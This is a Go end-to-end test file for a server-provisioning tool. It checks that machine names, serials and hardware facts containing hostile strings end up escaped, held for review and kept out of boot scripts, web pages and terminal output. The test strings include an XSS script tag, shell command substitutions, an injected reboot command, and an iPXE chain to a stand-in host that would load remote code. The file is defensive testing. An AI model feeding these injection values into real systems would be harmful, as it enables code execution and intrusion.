//go:build e2e

package e2e

import (
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"socle/api"
)

// hostile is what a server may call itself that means no good: markup, the syntaxes of shells, templates, iPXE, YAML
// and terminals, quotes and new lines.
const hostile = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot\n#!ipxe\nchain http://evil.example/\r\n\x1b[2J- a: b\x00\xff"

// serial is as bad and all of it can be printed, so that it is taken for what it says it is.
const serial = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot||chain http://evil.example/"

var bootToken = regexp.MustCompile(regexp.QuoteMeta(api.ParamToken) + `=(\S+)`)

// TestE2EHostileServer is a server that lies about what it is, in every word that it may say. It is seen and held;
// what it says gets into no script, page, table or answer as anything but text.
func TestE2EHostileServer(t *testing.T) {
	// Without DHCP no lease is asked for, and the test can speak for the server.
	sc := Play(t, Spec(BIOS("bios1", 1)), ServerOptions{Services: []string{"api", "workers", "boot"}})
	word := url.PathEscape(hostile)
	code, script := ask(t, http.MethodGet, sc.Boot+"/boot/script.ipxe?mac=02:00:00:00:00:66&uuid="+word+"&arch="+word+"&platform="+word+
		"&serial="+url.PathEscape(serial)+"&asset="+word, "", "")
	token := bootToken.FindStringSubmatch(script)
	if code != http.StatusOK || token == nil || strings.Contains(script, "evil") || strings.Contains(script, "reboot\n") {
		t.Fatalf("the boot script: %d %s", code, script)
	}
	for _, path := range []string{api.PathMachines, api.PathNextOrder} {
		if code, text := ask(t, http.MethodGet, sc.URL+path, token[1], ""); code != http.StatusUnauthorized {
			t.Errorf("GET %s with a boot token: %d %s", path, code, text)
		}
	}
	bearer := hostileSession(t, sc.Server, token[1])
	if code, text := ask(t, http.MethodGet, sc.URL+api.PathMachines, bearer, ""); code != http.StatusUnauthorized {
		t.Errorf("an agent may read the machines: %d %s", code, text)
	}
	postFacts(t, sc.Server, bearer, hostile, http.StatusNoContent)
	postFacts(t, sc.Server, bearer, strings.Repeat(hostile, mebi/len(hostile)), 0)

	machines, err := sc.API.Machines(t.Context(), "", "")
	if err != nil || len(machines) != 2 {
		t.Fatalf("%d machines (%v), want bios1 and the hostile one", len(machines), err)
	}
	for _, m := range machines {
		if m.Name == "bios1" {
			continue
		}
		if m.Hold == nil || m.InPlan || strings.ContainsAny(m.Name, "\"'<>{}$`;\n\x1b ") {
			t.Errorf("the hostile server is %q, in plan %v, held %v", m.Name, m.InPlan, m.Hold)
		}
		wantText(t, sc, m)
	}
}

// hostileSession opens an agent's session in hostile words and returns its token.
func hostileSession(t *testing.T, s *Server, token string) string {
	t.Helper()
	code, text := ask(t, http.MethodPost, s.URL+api.PathSession, "", asJSON(t, api.SessionRequest{Token: token, BootID: "boot-66", Serial: serial,
		UUID: hostile, AssetTag: hostile, NICMACs: []string{"02:00:00:00:00:66", hostile}, BMCMAC: hostile, Version: hostile, Arch: hostile, BootedMAC: hostile}))
	var reply api.SessionReply
	if err := json.Unmarshal([]byte(text), &reply); code != http.StatusOK || err != nil {
		t.Fatalf("opening a session: %d %s (%v)", code, text, err)
	}
	if again, _ := ask(t, http.MethodPost, s.URL+api.PathSession, "", asJSON(t, api.SessionRequest{Token: token, BootID: "boot-67"})); again != http.StatusUnauthorized {
		t.Errorf("a second boot with the same token: %d", again)
	}
	return reply.Token
}

// postFacts tells of hardware in hostile words; want is the status of the answer, 0 any but a server's failure.
func postFacts(t *testing.T, s *Server, bearer, word string, want int) {
	t.Helper()
	var p api.FactsPost
	f := &p.Facts
	f.System.Manufacturer, f.System.Product, f.System.Serial, f.System.UUID, f.System.AssetTag = word, word, serial, word, word
	f.Kernel, f.Firmware.Mode = word, word
	code, text := ask(t, http.MethodPost, s.URL+api.PathFacts, bearer, asJSON(t, p))
	t.Logf("facts with words of %d bytes: %d", len(word), code)
	if want != 0 && code != want || code >= http.StatusInternalServerError {
		t.Errorf("hostile facts: %d %.300s", code, text)
	}
}

func asJSON(t *testing.T, v any) string {
	t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// wantText looks at the hostile machine where people do.
func wantText(t *testing.T, sc *Scene, m api.Machine) {
	t.Helper()
	browse := browser(t, sc.Server)
	for _, path := range []string{"/", "/machines/" + m.ID} {
		page := browse(path)
		if strings.Contains(page, "<script>alert") || strings.Contains(page, `"'>`) {
			t.Errorf("GET %s: hostile markup is on the page", path)
		}
		if !strings.Contains(page, m.Name) {
			t.Errorf("GET %s does not show %s", path, m.Name)
		}
	}
	if !strings.Contains(browse("/machines/"+m.ID), "&lt;script&gt;alert(1)") {
		t.Error("what the server says of itself is not on its page: the test does not reach it")
	}
	for _, args := range [][]string{{"machine", "list"}, {"machine", "show", m.ID}, {"events"}} {
		if out := sc.Do(t, args...); strings.ContainsAny(out, "\x1b\x00\r") {
			t.Errorf("socle %v sends control characters to the terminal: %q", args, out)
		}
	}
}

// browser logs in as a person does and returns what reads pages.
func browser(t *testing.T, s *Server) func(path string) string {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	token, err := s.Token()
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Jar: jar, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}} // of the page, not of TLS
	read := func(res *http.Response, err error) string {
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		text, err := io.ReadAll(res.Body)
		if err != nil || res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s (%v)", res.Request.URL, res.Status, err)
		}
		return string(text)
	}
	read(c.PostForm(s.URL+"/login", url.Values{"token": {token}}))
	return func(path string) string { return read(c.Get(s.URL + path)) }
}

// TestE2EBadManifests wants all errors of a manifest, with their lines, and nothing imported.
func TestE2EBadManifests(t *testing.T) {
	sc := Play(t, Spec(BIOS("bios1", 1)), ServerOptions{})
	const head = "name,serial,rack,u,bmc_protocol,bmc_address,bmc_user,bmc_password\n"
	for _, tc := range []struct {
		name, text string
		says       []string
	}{
		{"missing columns", "rack,u\nr1,1\n", []string{"name", "serial"}},
		{"no serial", head + "a,,r1,1,ipmi,10.0.0.1,u,p\n", []string{"line 2", "has no serial number"}},
		{"duplicates", head + "a,S1,r1,1,ipmi,10.0.0.1,u,p\nb,S1,r1,1,ipmi,10.0.0.2,u,p\n", []string{"line 3, column serial", "line 3, column u", "that of line 2 too"}},
		{"bad MAC", "name,serial,rack,u,bmc_protocol,bmc_address,bmc_user,bmc_password,bmc_mac\na,S1,r1,1,ipmi,10.0.0.1,u,p,nonsense\n", []string{"line 2", "bmc_mac", "nonsense"}},
		{"10 MB line", head + strings.Repeat("x", 10<<20) + ",S1,r1,1,ipmi,10.0.0.1,u,p\n", []string{"line 2"}},
		{"wrong encoding", head + "caf\xe9,S1,r1,1,ipmi,10.0.0.1,u,p\n", []string{"line 2", "UTF-8"}},
		{"all at once", head + "a,,r1,x,smoke,nowhere,u,p\nb,S2,r1,99,ipmi,10.0.0.1,u,p\n" + "\"" + strings.ReplaceAll(hostile[:40], "\"", "") + "\",S3,r1,3,ipmi,10.0.0.3,u,p\n", []string{"line 2, column u", "smoke", "line 3, column u", "line 4, column name"}},
	} {
		file := filepath.Join(sc.Dir, "bad.csv")
		if err := os.WriteFile(file, []byte(tc.text), 0o600); err != nil {
			t.Fatal(err)
		}
		out, code := sc.CLI(t, "manifest", "import", file)
		t.Logf("%s: %.600s", tc.name, out)
		want := 2
		if tc.name == "no serial" {
			want = 5 // the file is sound, and contradicts what is known
		}
		if code != want {
			t.Errorf("%s: code %d, want %d", tc.name, code, want)
		}
		for _, text := range tc.says {
			if !strings.Contains(out, text) {
				t.Errorf("%s: %q is not said", tc.name, text)
			}
		}
	}
	if machines, err := sc.API.Machines(t.Context(), "", ""); err != nil || len(machines) != 1 {
		t.Errorf("%d machines (%v), want bios1 alone", len(machines), err)
	}
}
